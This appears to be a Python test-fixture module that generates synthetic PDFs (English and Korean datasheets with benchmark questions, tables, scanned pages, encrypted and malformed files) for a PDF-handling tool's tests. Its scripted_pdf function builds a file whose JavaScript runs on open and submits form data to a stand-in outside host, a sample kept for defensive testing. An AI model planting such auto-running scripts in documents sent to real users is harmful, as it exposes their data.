"""PDF documents made up for tests and benchmarks, with reportlab: text layers in English and Korean,
a table, a figure, scanned pages without a text layer, and the broken files users send.

Korean text uses reportlab's built-in CID font (HYSMyeongJo-Medium, Adobe-Korea1): the text layer
is real Unicode without shipping a font file.
"""

from __future__ import annotations

import io
import random
from dataclasses import dataclass

from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader, simpleSplit
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas
from reportlab.platypus import Table

from models.pdf import END_MARKER, HEADER

EXTERNAL_PDF = "tests/fixtures/shared-mime-info-spec.pdf"  # not made by Loupe: see tests/fixtures/PROVENANCE.md
KOREAN_FONT = "HYSMyeongJo-Medium"
pdfmetrics.registerFont(UnicodeCIDFont(KOREAN_FONT))

PARTS = ("regulator", "op-amp", "MOSFET", "comparator", "oscillator", "transceiver", "ADC", "LDO", "gate driver")
QUANTITIES = (
    ("maximum supply voltage", "V"),
    ("quiescent current", "µA"),
    ("operating temperature limit", "°C"),
    ("input offset voltage", "mV"),
    ("switching frequency", "kHz"),
    ("thermal resistance", "°C/W"),
)
KOREAN_PARTS = ("레귤레이터", "증폭기", "트랜지스터", "비교기", "발진기", "변환기")
KOREAN_QUANTITIES = (("최대 공급 전압", "V"), ("대기 전류", "µA"), ("동작 온도 한계", "°C"), ("스위칭 주파수", "kHz"))
FILLER = (
    "All parameters are specified over the recommended operating conditions unless otherwise noted. "
    "Typical values are measured at room temperature with nominal supply. Stresses beyond those listed "
    "may cause permanent damage to the device. Layout guidelines and thermal considerations follow."
)
KOREAN_FILLER = (
    "별도 표기가 없으면 모든 값은 권장 동작 조건에서 측정했습니다. 절대 최대 정격을 넘으면 소자가 손상될 수 있습니다."
)


@dataclass(frozen=True)
class Fact:
    page: int  # 1-based
    question: str
    answer: str  # the value, as the page writes it


def facts_pdf(pages: int, seed: int, korean: bool = False) -> tuple[bytes, list[Fact]]:
    """A datasheet of `pages` pages, each stating one fact among shared filler text, and the question each answers."""
    rng = random.Random(seed)
    parts, quantities = (KOREAN_PARTS, KOREAN_QUANTITIES) if korean else (PARTS, QUANTITIES)
    facts, texts = [], []
    for page in range(1, pages + 1):
        part, (quantity, unit) = rng.choice(parts), rng.choice(quantities)
        value = f"{rng.randint(2, 900)}.{rng.randint(0, 9)} {unit}"
        if korean:
            line = f"{part} 모델 K{page:03d}의 {quantity}은 {value}입니다."
            facts.append(Fact(page, f"K{page:03d} {part}의 {quantity}은 얼마인가요?", value))
        else:
            line = f"The {quantity} of the {part} model X{page:03d} is {value}."
            facts.append(Fact(page, f"What is the {quantity} of the X{page:03d} {part}?", value))
        texts.append(f"{KOREAN_FILLER if korean else FILLER} {line} {KOREAN_FILLER if korean else FILLER}")
    return text_pdf(texts, korean), facts


def text_pdf(pages: list[str], korean: bool = False) -> bytes:
    """One page per text, wrapped to the page width."""
    font = KOREAN_FONT if korean else "Helvetica"
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    for page in pages:
        lines = pdf.beginText(56, A4[1] - 72)
        lines.setFont(font, 11)
        for line in simpleSplit(page, font, 11, A4[0] - 112):
            lines.textLine(line)
        pdf.drawText(lines)
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def datasheet_pdf() -> bytes:
    """Four pages: English text, a table of ratings, a figure with a caption, and a scanned page (an image only)."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    pdf.setFont("Helvetica", 12)
    pdf.drawString(56, 770, "LX-7 buck converter. The soft-start time is 4.2 ms.")
    pdf.showPage()
    table = Table(
        [["Parameter", "Min", "Max", "Unit"], ["Input voltage", "4.5", "28", "V"], ["Output current", "", "3", "A"]]
    )
    table.wrapOn(pdf, 400, 200)
    table.drawOn(pdf, 56, 700)
    pdf.showPage()
    pdf.setStrokeColorRGB(0.1, 0.3, 0.8)
    pdf.lines([(80, 400 + x, 80 + 4 * x, 400 + (x * x) // 40) for x in range(0, 80, 4)])
    pdf.rect(60, 380, 420, 200)
    pdf.setFont("Helvetica", 10)
    pdf.drawString(60, 360, "Figure 3. Efficiency versus load current at 12 V input.")
    pdf.showPage()
    pdf.drawImage(ImageReader(scanned_page("Service bulletin 11: torque 25 Nm")), 0, 0, *A4)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def scanned_page(words: str) -> Image.Image:
    """A page as a scanner gives it: a picture of text, no text layer."""
    image = Image.new("RGB", (620, 877), "white")
    ImageDraw.Draw(image).text((60, 80), words, fill="black")
    return image


def sized_pdf(width: float, height: float) -> bytes:
    """One page of `width` x `height` points (1/72 inch) with a line of text."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=(width, height))
    pdf.drawString(36, height - 72, "A very large drawing sheet.")
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def encrypted_pdf() -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out, encrypt="secret")  # a user password: nothing opens without it
    pdf.drawString(56, 770, "Confidential.")
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def zero_page_pdf() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    return _assembled(objects)


def scripted_pdf() -> bytes:
    """A page with a form field and JavaScript that would run when the document opens, in a reader that runs it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] /Contents 6 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (serial) /Rect [72 600 300 630] /P 3 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://example.com'\\);) >>",
        _stream(b"BT /F1 12 Tf 72 700 Td (Enter the serial number.) Tj ET"),
    ]
    return _assembled(objects)


def _stream(content: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)


def _assembled(objects: list[bytes]) -> bytes:
    """A PDF file of these objects (numbered from 1, the first the catalog) with a correct cross-reference table."""
    out = bytearray(HEADER + b"1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, xref) + END_MARKER + b"\n"
    return bytes(out)
